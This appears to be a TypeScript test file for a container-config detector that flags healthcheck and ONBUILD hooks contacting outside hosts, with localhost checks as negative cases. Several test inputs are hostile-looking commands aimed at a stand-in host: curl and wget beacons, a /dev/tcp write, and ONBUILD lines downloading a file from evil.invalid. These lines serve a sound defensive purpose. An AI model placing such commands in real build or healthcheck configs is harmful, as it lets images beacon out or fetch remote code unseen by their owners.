import { type DetectorCase, testCases } from '../../../testing/detector-cases.ts';
import { networkHooks } from './index.ts';

const ID = 'config/network-hooks';
const check = (line: string) => ({ healthcheck: ['CMD-SHELL', line] });

const cases: readonly DetectorCase[] = [
  {
    name: 'a beacon',
    config: check('curl -s https://evil.invalid/ping || true'),
    expected: [`review ${ID} Healthcheck`],
  },
  { name: 'a bare host', config: check('wget -q evil.invalid/ping'), expected: [`review ${ID} Healthcheck`] },
  {
    name: 'a device',
    config: check('echo > /dev/tcp/evil.invalid/80'),
    expected: [`review ${ID} Healthcheck`],
  },
  {
    name: 'loopback does not hide it',
    config: check('curl -f http://localhost/ && curl http://evil.invalid/'),
    expected: [`review ${ID} Healthcheck`],
  },
  { name: 'a neighbour is a note', config: check('nc -z db 5432'), expected: [`note ${ID} Healthcheck`] },
  {
    name: 'on-build',
    config: { onBuild: ['RUN curl -o /x https://evil.invalid/x'] },
    expected: [`review ${ID} OnBuild[0]`],
  },
  {
    name: 'on-build ADD',
    config: { onBuild: ['ADD https://evil.invalid/x /x'] },
    expected: [`review ${ID} OnBuild[0]`],
  },
  ...[
    'curl -f http://localhost || exit 1',
    'curl -fsS http://127.0.0.1:8080/health',
    'wget --spider -q http://[::1]:3000/',
    'wget --no-verbose --tries=1 --spider http://localhost:$PORT/ || exit 1',
    'curl --fail localhost:8080',
    'curl -f "http://${HOST:-localhost}:${PORT}/"',
    'curl -f http://$(hostname -i):9000/',
    'bash -c "</dev/tcp/localhost/80"',
    'nc -z localhost 5432',
    'pg_isready -U postgres',
    'curl -s https://localhost:9200 -k -u a:b',
    'test -f /tmp/ok',
    "node -e \"require('http').get('http://localhost:3000')\"",
    'python -c "import urllib.request; urllib.request.urlopen(\'http://localhost:8000/health\')"',
  ].map((line) => ({ name: `nothing: ${line}`, config: check(line), expected: [] })),
  { name: 'nothing: a package manager', config: { onBuild: ['RUN npm ci', 'COPY . /app'] }, expected: [] },
  { name: 'nothing: none', config: { healthcheck: ['NONE'] }, expected: [] },
];

testCases(networkHooks, cases);
